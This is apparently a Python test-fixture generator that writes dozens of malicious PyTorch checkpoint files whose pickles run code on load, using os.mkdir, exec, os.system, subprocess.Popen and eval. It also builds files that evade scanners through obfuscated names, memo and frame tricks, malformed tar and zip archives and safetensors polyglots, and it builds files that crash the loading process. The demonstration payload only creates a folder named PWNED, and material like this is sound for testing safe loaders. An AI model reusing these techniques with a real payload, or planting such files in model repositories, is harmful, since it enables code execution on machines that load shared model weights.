"""Checkpoints that run something when torch.load reads them: each makes the folder PWNED where it is loaded.

`WAYS` are pickled expressions that call os.mkdir, `FUNCTIONS` some that call what does as much harm, and `PLACES` are
files with such an expression at some place in them. `ENDINGS` run nothing, but end the process.
"""

import io
import pickle
import struct
import tarfile
import zipfile
import zlib

MAGIC = b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19"
VERSION = b"M\xe9\x03"


def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def name_of(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def long_name(module, name):
    return text(module) + text(name) + b"\x93"


def listed(*values):
    return b"](" + b"".join(values) + b"e"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


MKDIR = name_of("os", "mkdir")
FOLDER = text("PWNED")
LIST = name_of("builtins", "list")
PATH = call(name_of("pathlib", "Path"), FOLDER)
GETATTR = name_of("builtins", "getattr")
MODULE = call(GETATTR, name_of("os", "path"), text("os"))


def pickled(body, protocol=2):
    return b"\x80" + bytes([protocol]) + body + b"."


def old_stream(system=b"}", keys=b"]", value=b"N", magic=MAGIC, version=VERSION, protocol=2):
    parts = ((magic, 2), (version, 2), (system, 2), (value, protocol), (keys, 2))
    return b"".join(pickled(body, number) for body, number in parts)


def as_bytes(data):
    """A bytes object, as protocol 3 writes it."""
    return b"B" + struct.pack("<I", len(data)) + data


WAYS = {
    "reduce": MKDIR + FOLDER + b"\x85R",
    "posix": call(name_of("posix", "mkdir"), FOLDER),
    "stack_global": long_name("os", "mkdir") + FOLDER + b"\x85R",
    "name_from_memo": text("mkdir") + b"q\x010" + text("os") + b"h\x01\x93" + FOLDER + b"\x85R",
    "dotted": long_name("os", "path.os.mkdir") + FOLDER + b"\x85R",
    "dotted_module": long_name("pathlib", "os.mkdir") + FOLDER + b"\x85R",
    "inst": b"(S'PWNED'\nios\nmkdir\n",
    "obj": b"(" + MKDIR + FOLDER + b"o",
    "exec": call(name_of("builtins", "exec"), text("import os; os.mkdir('PWNED')")),
    "getattr_of_module": call(call(GETATTR, MODULE, text("mkdir")), FOLDER),
    "method": call(name_of("operator", "methodcaller"), text("mkdir")) + PATH + b"\x85R",
    "method_of_class": long_name("pathlib", "Path.mkdir") + PATH + b"\x85R",
    "map": call(LIST, call(name_of("builtins", "map"), MKDIR, listed(FOLDER))),
    "filter": call(LIST, call(name_of("builtins", "filter"), MKDIR, listed(FOLDER))),
    "starmap": call(LIST, call(name_of("itertools", "starmap"), MKDIR, listed(FOLDER + b"\x85"))),
    "accumulate": call(LIST, call(name_of("itertools", "accumulate"), listed(FOLDER, b"M\xff\x01"), MKDIR)),
    "partial": call(call(name_of("functools", "partial"), MKDIR, FOLDER)),
    "reduce_function": call(name_of("functools", "reduce"), MKDIR, listed(FOLDER, b"M\xff\x01")),
    "sorted_by_key": call(name_of("functools", "cmp_to_key"), MKDIR) + b"0" + call(MKDIR, FOLDER),
    "reconstructor": call(
        name_of("copyreg", "_reconstructor"), *([name_of("subprocess", "Popen")] * 2), listed(text("mkdir"), FOLDER)
    ),
    "popen": call(name_of("subprocess", "Popen"), listed(text("mkdir"), FOLDER)),
    "system": call(name_of("os", "system"), text("mkdir PWNED")),
    "from_type": call(
        name_of("torch._tensor", "_rebuild_from_type_v2"), MKDIR, name_of("torch", "Tensor"), FOLDER + b"\x85", b"N"
    ),
    "setter_of_state": name_of("types", "SimpleNamespace") + b")R}" + text("__setstate__") + MKDIR + b"sb" + FOLDER + b"b",
    "class_with_setter": name_of("argparse", "Namespace") + b"q\x01N}" + text("__setstate__") + MKDIR + b"s\x86b0"
    + b"h\x01)\x81" + FOLDER + b"b",
    "popped": MKDIR + FOLDER + b"\x85R0N",
    "duplicated": MKDIR + FOLDER + b"\x85R20",
    "dropped_to_mark": b"(" + MKDIR + FOLDER + b"\x85R1N",
    "key": b"}" + MKDIR + FOLDER + b"\x85RNs",
    "in_a_set": name_of("builtins", "frozenset") + listed(MKDIR + FOLDER + b"\x85R") + b"\x85R",
    "in_a_state": name_of("argparse", "Namespace") + b")\x81}" + text("a") + MKDIR + FOLDER + b"\x85Rsb",
    "callable_of_persistent_id": b"(" + text("storage") + MKDIR + FOLDER + b"\x85R" + text("0") + text("cpu") + b"K\x00tQ",
    "bytes_of_storage": call(name_of("torch.storage", "_load_from_bytes"), as_bytes(old_stream(MKDIR + FOLDER + b"\x85R0}"))),
    "bytes_in_bytes": call(
        name_of("torch.storage", "_load_from_bytes"),
        as_bytes(old_stream(value=call(
            name_of("torch.storage", "_load_from_bytes"), as_bytes(old_stream(value=MKDIR + FOLDER + b"\x85R"))
        ))),
    ),
    "load_of_bytes": call(
        name_of("torch", "load"), call(name_of("io", "BytesIO"), as_bytes(old_stream(value=MKDIR + FOLDER + b"\x85R")))
    ),
    "unpickled_bytes": call(name_of("pickle", "loads"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))),
    "unpickled_bytes_2": call(name_of("_pickle", "loads"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))),
    "numpy_file": call(
        name_of("numpy", "load"), call(name_of("io", "BytesIO"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))), b"N", b"\x88"
    ),
    "context": call(name_of("runpy", "_run_code"), call(
        name_of("builtins", "compile"), text("import os; os.mkdir('PWNED')"), text("f"), text("exec")), b"}"),
    "timeit": call(name_of("timeit", "timeit"), text("os.mkdir('PWNED')"), text("import os"), b"cbuiltins\nint\n", b"K\x01"),
}  # fmt: skip


PYTHON = text("import os; os.mkdir('PWNED')")
SOURCE = text("import os; os.mkdir('PWNED')\ndef forward(self): pass")
EXPRESSION = text("__import__('os').mkdir('PWNED')")

# Functions of Python, NumPy and torch that lists of harmful ones do not have, and ways to them.
FUNCTIONS = {
    "collect_env": call(name_of("torch.utils.collect_env","run"),text("mkdir PWNED")),
    "unsupported_ops": call(name_of("torch.jit.unsupported_tensor_ops","execWrapper"),PYTHON,b"}",b"}"),
    "fx_source": call(name_of("torch.fx.graph_module","_forward_from_src"),SOURCE,b"}"),
    "fx_source_dotted": call(long_name("torch.fx","graph_module._forward_from_src"),SOURCE,b"}"),
    "numpy_measure": call(name_of("numpy.testing._private.utils","measure"),PYTHON),
    "numpy_measure_2": call(name_of("numpy.testing","measure"),PYTHON),
    "f2py_eval": call(name_of("numpy.f2py.crackfortran","myeval"),EXPRESSION),
    "debug_script": call(name_of("doctest","debug_script"),PYTHON,b"\x88"),
    "command_output": call(name_of("uuid","_get_command_stdout"),text("mkdir"),text("PWNED")),
    "read_output": call(name_of("_osx_support","_read_output"),text("mkdir PWNED")),
    "path_method": call(long_name("pathlib","Path.mkdir"),PATH),
    "dict_get": call(call(long_name("builtins","__dict__.get"),text("exec")),PYTHON),
    "vars_get": call(call(long_name("builtins","dict.get"),call(name_of("builtins","vars"),call(long_name("torch","__dict__.get"),text("os"))),text("mkdir")),FOLDER),
    "getattribute": call(call(long_name("builtins","object.__getattribute__"),long_name("torch","os"),text("mkdir")),FOLDER),
    "globals_of_method": call(call(long_name("torch.nn.modules.module","Module.__init__.__builtins__.get"),text("exec")),PYTHON),
    "itemgetter": call(call(call(name_of("operator","itemgetter"),text("exec")),long_name("builtins","__dict__")),PYTHON),
    "getitem": call(call(name_of("operator","getitem"),long_name("builtins","__dict__"),text("exec")),PYTHON),
    "forward_reference": call(long_name("typing","ForwardRef._evaluate"),call(name_of("typing","ForwardRef"),EXPRESSION),b"}",b"}",call(name_of("builtins","frozenset"))),
    "dataclass": call(name_of("dataclasses","_create_fn"),text("f"),listed(text("a=__import__('os').mkdir('PWNED')")),listed(text("pass"))),
    "log_file": call(name_of("logging","FileHandler"),FOLDER),
    "gzip": call(name_of("gzip","open"),FOLDER,text("wb")),
    "lzma": call(name_of("lzma","open"),FOLDER,text("wb")),
    "python_io": call(name_of("_pyio","open"),FOLDER,text("w")),
    "token_open": call(name_of("tokenize","_builtin_open"),FOLDER,text("w")),
    "codecs_open": call(long_name("codecs","builtins.open"),FOLDER,text("w")),
    "zip_file": call(name_of("zipfile","ZipFile"),FOLDER,text("w")),
    "memory_map": call(name_of("numpy","memmap"),FOLDER,text("uint8"),text("w+"),b"K\x00",b"K\x05\x85"),
    "numpy_text": call(name_of("numpy","savetxt"),FOLDER,b"]K\x01a"),
    "torch_save": call(name_of("torch","save"),b"}",FOLDER),
    "torch_from_file": call(name_of("torch","from_file"),FOLDER,b"\x88",b"K\x08"),
    "storage_from_file": call(long_name("torch","UntypedStorage.from_file"),FOLDER,b"\x88",b"K\x08"),
    "script_helper": call(name_of("test.support.script_helper","assert_python_ok"),text("-c"),PYTHON),
    "getattr_then_map": call(LIST,call(name_of("builtins","map"),call(GETATTR,long_name("torch.fx","graph_module"),text("_forward_from_src")),listed(SOURCE),listed(b"}"))),
}


def zip_of(records, folder="archive/"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in records.items():
            archive.writestr(folder + name, data)
    return out.getvalue()


def torch_zip(body, protocol=2, name="data.pkl"):
    return zip_of({name: pickled(body, protocol), "version": b"3\n"})


def tar_members():
    nothing = pickle.dumps(0, 2)
    return {"sys_info": pickle.dumps({"little_endian": True}, 2), "pickle": pickle.dumps({}, 2), "tensors": nothing,
            "storages": nothing + pickle.dumps([], 2)}  # fmt: skip


def torch_tar(**replaced):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in (tar_members() | replaced).items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


# TorchScript has no os.mkdir: a setter that saves a tensor makes a file of that name.
SCRIPT = """class %s(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  x : Tensor
  def forward(self: %s,
    y: Tensor) -> Tensor:
    return y
  def __getstate__(self: %s) -> Tuple[Tensor, bool]:
    return (self.x, self.training)
  def __setstate__(self: %s,
    s: Tuple[Tensor, bool]) -> NoneType:
    self.x = (s)[0]
    self.training = (s)[1]
    %s((s)[0], "PWNED")
    return None
"""
STORAGE = b"((" + text("storage") + name_of("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02tQ"
TENSOR = name_of("torch._utils", "_rebuild_tensor_v2") + STORAGE + b"K\x00K\x02\x85K\x01\x85\x89" + (
    name_of("collections", "OrderedDict") + b")RtR"
)


def script(module="__torch__", name="M", save="torch.save", code="code/", data=None, constants=b")"):
    """A TorchScript archive with one module, whose setter runs when it is loaded."""
    qualified = f"{module}.{name}"
    made = name_of(module, name) + b")\x81" + TENSOR + b"\x89\x86b"
    return zip_of({
        "data.pkl": pickled(made if data is None else data),
        f"{code}{module.replace('.', '/')}.py": SCRIPT % (name, qualified, qualified, qualified, save),
        "constants.pkl": pickled(made + b"\x85" if constants is None else constants),
        "data/0": bytes(8), "constants/0": bytes(8), "version": b"3\n",
    })  # fmt: skip


def frame_past_stop():
    """Python reads on behind the frame of the magic number; who stops at its end sees a plain tensor."""
    evil = old_stream(value=RUN)[len(pickled(MAGIC)) :]
    bytes_of = name_of("torch", "ByteStorage")
    storage = b"(" + text("storage") + bytes_of + text("0") + text("cpu") + b"J" + struct.pack("<i", len(evil)) + b"NtQ"
    shown = b"".join(pickled(body) for body in (VERSION, b"}", storage, b"]" + text("0") + b"a"))
    shown += struct.pack("<q", len(evil))
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(MAGIC) + 1 + len(shown)) + MAGIC + b"."
    return framed + shown + evil


RUN = MKDIR + FOLDER + b"\x85R"
DONE = RUN + b"0"  # and forget the result


def counted_twice():
    """A memo entry is stored while its number is far beyond what was read, and once more when it is not: one entry. Who
    counts two fills other entries by MEMOIZE, and sees another name."""
    put = b"Nr" + struct.pack("<I", 80) + b"0"
    module = text("collections") + b"q\x020" + text("os") + b"\x940h\x02"  # the second takes the place of the first
    name = text("OrderedDict") + b"q\x050" + b"Nq\x060" + b"Nq\x070" + text("mkdir") + b"\x940h\x05"
    return put + text("x" * 80) + b"0" + put + module + name + b"\x93" + FOLDER + b"\x85R"


def counted_twice_in_order():
    """The same with the second time where the next free entry seems to be."""
    far = b"Nr" + struct.pack("<I", 80) + b"0" + text("x" * 80) + b"0"
    twice = b"Nq\x4f0" + b"Nq\x500"
    name = text("list") + b"q\x030" + text("exec") + b"\x940"
    return far + twice + name + text("builtins") + b"h\x03\x93" + PYTHON + b"\x85R" + b"N0" * 100


def bytes_in_a_storage():
    """A blob whose value is a storage, with another blob in it that nothing gets."""
    load = name_of("torch.storage", "_load_from_bytes")
    storage = b"(" + text("storage") + name_of("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02NtQ"
    inner = call(load, as_bytes(old_stream(value=RUN))) + b"0" + storage
    return call(load, as_bytes(old_stream(value=inner, keys=b"]" + text("0") + b"a") + struct.pack("<q", 2) + bytes(8)))


def tensor_with_a_function():
    """A tensor whose attribute hides a method that a state calls. It copies into bytes that are loaded afterwards."""
    size = 2048

    def array(data):
        plain = b"(K\x03" + text("|") + b"NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\x00tb"
        dtype = call(name_of("numpy", "dtype"), text("u1"), b"\x89", b"\x88") + plain
        shape = b"M" + struct.pack("<H", size) + b"\x85"
        made = call(name_of("numpy.core.numeric", "_frombuffer"), data, dtype, shape, text("C"))
        rebuild = name_of("torch._utils", "_rebuild_device_tensor_from_numpy")
        return call(rebuild, made, name_of("torch", "uint8"), text("cpu"), b"\x89")

    harmless = as_bytes(old_stream(value=b"}").ljust(size, b"\0")) + b"q\x010"
    storage = b"(" + text("storage") + name_of("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x01tQ"
    parts = b"(" + storage + b"K\x00K\x01\x85K\x01\x85\x89" + call(name_of("collections", "OrderedDict")) + b"t"
    hidden = b"}" + text("set_") + name_of("torch._utils", "_rebuild_parameter_with_state") + b"s"
    rebuild = name_of("torch._utils", "_rebuild_tensor_v2")
    tensor = call(name_of("torch._tensor", "_rebuild_from_type_v2"), rebuild, name_of("torch", "Tensor"), parts, hidden)
    source = array(as_bytes(old_stream(value=RUN).ljust(size, b"\0")))
    state = b"(" + array(b"h\x01") + b"\x89N}" + text("real") + source + b"st"
    return harmless + tensor + state + b"b0" + call(name_of("torch.storage", "_load_from_bytes"), b"h\x01")


def cut_by_frames():
    """Numbers of memo entries that begin in a frame and end behind it. Python's unpickler in C forgets what it had of such a
    line, reads the rest of it, and gets another entry."""
    entries = ((2, "os"), (12, "collections"), (3, "mkdir"), (13, "OrderedDict"))
    kept = b"".join(text(name) + b"p%d\n0" % entry for entry, name in entries)
    cut = b"".join(b"\x95" + struct.pack("<Q", 2) + b"g1" + rest for rest in (b"2\n", b"3\n"))
    return kept + cut + b"\x93" + FOLDER + b"\x85R"


def two_backslashes():
    """A blob written as a line of text. Two backslashes begin no escape; who takes the second for one reads the text that
    begins there as shorter, and what follows as part of it."""
    trick = rb"\\u0030"
    count = 20
    inside = DONE + b"}." + pickled(b"]")
    inside += b"N0" * ((5 * count - len(inside)) // 2)
    shown = b"X" + struct.pack("<I", len(trick) * count) + trick * count + inside.ljust(5 * count, b"0")
    blob = old_stream()
    head = blob[: blob.index(pickled(b"N"))]
    line = b"".join(
        b"\\u%04x" % byte if byte in b"\n\\\0\r\x1a" or byte > 127 else bytes([byte]) for byte in head + pickled(shown)
    )
    line = line.replace(rb"\u005c\u005cu0030", trick)
    encoded = call(name_of("_codecs", "encode"), b"V" + line + b"\n", text("latin1"))
    return call(name_of("torch.storage", "_load_from_bytes"), encoded)


def tar_entry(name, data, kind=b"0", checksum=b"%06o\0 "):
    entry = tarfile.TarInfo(name)
    entry.size = len(data)
    head = bytearray(entry.tobuf(tarfile.USTAR_FORMAT))
    head[0:100] = name.encode("latin-1").ljust(100, b"\0")
    head[156:157] = kind
    head[148:156] = b" " * 8
    head[148:156] = (checksum % sum(head)).ljust(8, b"\0")
    return bytes(head) + data + bytes(-len(data) % 512)


def tar_path(name):
    """An extended header that gives the next member another name."""
    return tar_entry("PaxHeader", b"%d path=%s\n" % (len(name) + 9, name.encode()), b"x")


def whole_tar(*more, head=b""):
    """What torch_tar() makes, with more entries at its end, or another one in front."""
    members = (tar_entry(name, data) for name, data in tar_members().items())
    return head + b"".join((*members, *more)) + bytes(1024)


def tar_with_checksum(checksum):
    """A tar whose first name is an old stream, for those who do not take such a checksum."""
    return whole_tar(tar_entry("pickle", pickled(RUN)), head=tar_entry(old_stream().decode("latin-1"), b"", checksum=checksum))


def safetensors_and_pickle(length, first):
    """Safetensors whose header, behind the first letter of its length, is a line of text for an unpickler."""
    data = first.ljust(len(first) + -len(first) % 8, b"0")
    header = '{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data), len(data))
    return struct.pack("<Q", length) + header.encode().ljust(length) + data


def zip_entry(name, data, offset, comment=b""):
    numbers = (20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), len(name), 0, len(comment), 0, 0, 0, offset)
    return b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", *numbers) + name + comment


def zip_record(name, data):
    numbers = (20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), len(name), 0)
    return b"PK\3\4" + struct.pack("<HHHHHIIIHH", *numbers) + name + data


def zip_end(count, size, offset, long_record):
    end = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, size, offset)
    end += b"PK\6\7" + struct.pack("<IQI", 0, long_record, 1)
    return end + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, size, offset, 0)


def entries_behind_the_directory(hidden):
    """Two zips in a row with their directories at one place. The first counts its entries; behind them are more, and the
    second counts as many as are there then, of its own: torch goes by the second's numbers, from the file's beginning."""
    directory = 4096
    honest = {b"a/data.pkl": pickled(b"}" + text("a") + b"K\1s"), b"a/version": b"3\n", b"a/byteorder": b"little"}
    records = entries = b""
    for name, data in honest.items():
        entries += zip_entry(name, data, len(records))
        records += zip_record(name, data)
    inside = zip_record(b"a/data.pkl", pickled(RUN))
    room = directory - len(records) - len(zip_record(b"a/data/0", b""))
    entries += zip_entry(b"a/data/0", inside.ljust(room, b"\0"), len(records))
    place = len(records) + len(zip_record(b"a/data/0", b""))
    records += zip_record(b"a/data/0", inside.ljust(room, b"\0"))
    behind = b"".join(zip_entry(b"a/data.pkl", pickled(RUN), place, b"" if at else bytes(7)) for at in range(hidden))
    first = records + entries + behind
    first += zip_end(len(honest) + 1, len(entries), directory, len(first))
    count, size = len(honest) + 1 + hidden, len(entries) + len(behind)
    records = entries = b""
    for name, data in (honest | {b"a/data/%d" % at: b"x" for at in range(hidden)}).items():
        entries += zip_entry(name, data, len(records))
        records += zip_record(name, data)
    padding = bytes(directory - len(records) - len(zip_record(b"a/pad", b"")))
    last = zip_entry(b"a/pad", padding, len(records))
    entries += zip_entry(b"a/pad", padding, len(records), bytes(size - len(entries) - len(last)))
    second = records + zip_record(b"a/pad", padding) + entries + bytes(200)
    return first + second + zip_end(count, size, directory, len(second))


def random_generator(made_by, type=name_of("numpy.random._pcg64", "PCG64") + b")"):
    """One of NumPy with a state, which its C code writes to where its __init__ would have had it."""
    seed = b"}" + text("state") + b"K\1s" + text("inc") + b"K\1s"
    state = b"}" + text("bit_generator") + text("PCG64") + b"s" + text("state") + seed + b"s"
    state += text("has_uint32") + b"K\0s" + text("uinteger") + b"K\0s"
    return type + made_by + state + b"b"


def tensor_of_array(code):
    """Made of elements by whose size torch divides."""
    kind = call(name_of("numpy", "dtype"), text(code), b"\x89\x88") + b"(K\3" + text("|") + b"NNNK\0K\1K\0tb"
    array = call(name_of("numpy.core.multiarray", "_reconstruct"), name_of("numpy", "ndarray"), b"K\0\x85", text("b"))
    array += b"(K\1K\4\x85" + kind + b"\x89" + call(name_of("_codecs", "encode"), text(""), text("latin1")) + b"tb"
    return call(name_of("torch._utils", "_rebuild_xla_tensor"), array, name_of("torch", "uint8"), text("cpu"), b"\x89")


def stored(kind, count, view=b"N"):
    """What a stream has for a storage, or a view into one."""
    parts = (text("storage"), name_of("torch", kind + "Storage"), text("0"), text("cpu"), b"K" + bytes([count]), view)
    return b"(" + b"".join(parts) + b"tQ"


def stream_with_storage(value, data, count):
    return old_stream(value=value, keys=listed(text("0")), protocol=4) + struct.pack("<q", count) + data


def vector(*numbers, shape=None):
    """A tensor of int64 that holds these when the call is done, as torch fills storages after the pickle."""
    blob = stream_with_storage(stored("Long", len(numbers)), struct.pack(f"<{len(numbers)}q", *numbers), len(numbers))
    storage = call(name_of("torch.storage", "_load_from_bytes"), as_bytes(blob))
    count = b"K" + bytes([len(numbers)])
    size, stride = (b"(" + count + b"t", b"(K\1t") if shape is None else shape
    hooks = name_of("collections", "OrderedDict") + b")R"
    return call(name_of("torch._utils", "_rebuild_tensor_v2"), storage, b"K\0", size, stride, b"\x89", hooks)


def view_of_a_sparse_tensor():
    """torch adds what stands for the beginning and the size of a view: here to a tensor whose one index is far away."""
    indices = vector(10_000_000, shape=(b"(K\1K\1t", b"(K\1K\1t"))
    layout = call(name_of("torch.serialization", "_get_layout"), text("torch.sparse_coo"))
    parts = b"(" + indices + vector(7, shape=None) + b"(K\4tt"
    sparse = call(name_of("torch._utils", "_rebuild_sparse_tensor"), layout, parts)
    view = text("v") + vector(0, 0, 0, 0, shape=None) + sparse
    return stream_with_storage(listed(stored("Float", 4, listed(view))), bytes(16), 4)


def numpy_type(code, state=b""):
    return call(name_of("numpy", "dtype"), text(code), b"\x89\x88") + state


def text_of_length(code):
    return torch_zip(call(name_of("numpy.core.multiarray", "scalar"), numpy_type(code), as_bytes(b"abc")), 4)


COMPUTED_MAGIC = call(name_of("builtins", "int"), text(str(0x1950A86A20F9469CFC6C)))

PLACES = {
    "computed_magic": old_stream(magic=COMPUTED_MAGIC, value=RUN),
    "frame_past_stop": torch_zip(call(name_of("torch.storage", "_load_from_bytes"), as_bytes(frame_past_stop())), 4),
    "dotted_loader": torch_zip(
        long_name("torch", "storage._load_from_bytes") + as_bytes(old_stream(value=RUN)) + b"\x85R", 4
    ),
    "script": script(),
    "script_with_blanks": script(save="torch . save "),
    "script_by_operator": script(save="ops.aten. save"),
    "script_in_other_case": script(code="CODE/"),
    "script_of_harmless_class": script("argparse", "Namespace"),
    "script_beside_a_value": script(data=b"}" + text("a") + b"K\x05s", constants=None),
    "python2_name": old_stream(value=call(name_of("__builtin__", "eval"), text("__import__('os').mkdir('PWNED')"))),
    "plain_pickle": pickled(RUN),
    "folded_name": torch_zip(RUN, name="DATA.PKL"),
    "half_folded_name": torch_zip(RUN, name="Data.pkl"),
    "old_magic": old_stream(magic=DONE + MAGIC),
    "old_version": old_stream(version=DONE + VERSION),
    "old_system": old_stream(system=DONE + b"}"),
    "old_system_value": old_stream(system=b"}" + text("little_endian") + RUN + b"s"),
    "old_object": old_stream(value=RUN),
    "old_keys": old_stream(keys=DONE + b"]"),
    "old_key_among_keys": old_stream(keys=b"](" + RUN + b"e"),
    "tar_pickle": torch_tar(pickle=pickled(RUN)),
    "tar_storages": torch_tar(storages=pickled(DONE + b"K\x00")),
    "tar_second_storages": torch_tar(storages=pickled(b"K\x01") + pickled(DONE + b"(K\x00U\x03cpu" + name_of("torch", "FloatStorage") + b"t")),
    "tar_views": torch_tar(storages=pickled(b"K\x00") + pickled(DONE + b"]")),
    "tar_tensors": torch_tar(tensors=pickled(DONE + b"K\x00")),
    "tar_in_a_folder": whole_tar(tar_entry("x/", tar_entry("pickle", pickled(RUN)), b"\0")),
    "tar_of_two_names": whole_tar(tar_path("pickle"), tar_path("other"), tar_entry("x", pickled(RUN))),
    "tar_name_with_slash": whole_tar(tar_path("pickle/"), tar_entry("x", pickled(RUN))),
    "tar_signed_checksum": tar_with_checksum(b"+%o"),
    "tar_tab_checksum": tar_with_checksum(b"\t%o"),
    "tar_octal_checksum": tar_with_checksum(b"0o%o"),
    "memo_counted_twice": torch_zip(counted_twice(), 4),
    "memo_counted_twice_in_order": torch_zip(counted_twice_in_order(), 4),
    "bytes_in_a_storage": torch_zip(bytes_in_a_storage()),
    "cut_by_frames": torch_zip(cut_by_frames(), 4),
    "tensor_with_a_function": zip_of(
        {"data.pkl": pickled(tensor_with_a_function(), 3), "data/0": bytes(4), "version": b"3\n"}
    ),
    "two_backslashes": torch_zip(two_backslashes()),
    **{f"entries_behind_the_directory_{hidden}": entries_behind_the_directory(hidden) for hidden in (3, 4, 8, 15)},
    "safetensors_of_a_long_line": safetensors_and_pickle(0x20056, b"\n0" + RUN + b"."),
    "safetensors_magic_as_text": safetensors_and_pickle(
        0x156, b"\n0L%dL\n." % 0x1950A86A20F9469CFC6C + pickled(RUN)
    ),
}  # fmt: skip


ENDINGS = {
    "bare_generator": torch_zip(random_generator(b"\x81")),
    "bare_generator_with_keywords": torch_zip(random_generator(b"}\x92"), 4),
    "bare_generator_by_obj": torch_zip(random_generator(b"o", b"(" + name_of("numpy.random._pcg64", "PCG64"))),
    "bare_generator_by_inst": torch_zip(random_generator(b"numpy.random._pcg64\nPCG64\n", b"(i")),
    "bare_generator_used": torch_zip(call(name_of("numpy.random._pickle", "__randomstate_ctor"), random_generator(b"\x81"))),
    "view_of_a_sparse_tensor": view_of_a_sparse_tensor(),
    "dates_without_a_unit": torch_zip(numpy_type("M8", b"(K\3" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb")),
    **{f"length_{code}": text_of_length(code) for code in ("S2147483648", "U536870912", "S999999999999999")},
    "elements_of_no_size": torch_zip(tensor_of_array("S0")),
    "records_of_no_size": torch_zip(tensor_of_array("V0")),
}  # fmt: skip


def write(folder):
    """{name of the file: its bytes}, written there."""
    files = {f"way_{name}.pth": torch_zip(body, 4) for name, body in WAYS.items()}
    files |= {f"old_way_{name}.pth": old_stream(value=body, protocol=4) for name, body in WAYS.items()}
    files |= {f"function_{name}.pth": torch_zip(body, 4) for name, body in FUNCTIONS.items()}
    files |= {f"place_{name}.pth": data for name, data in PLACES.items()}
    files |= {f"ends_{name}.pth": data for name, data in ENDINGS.items()}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return sorted(files)
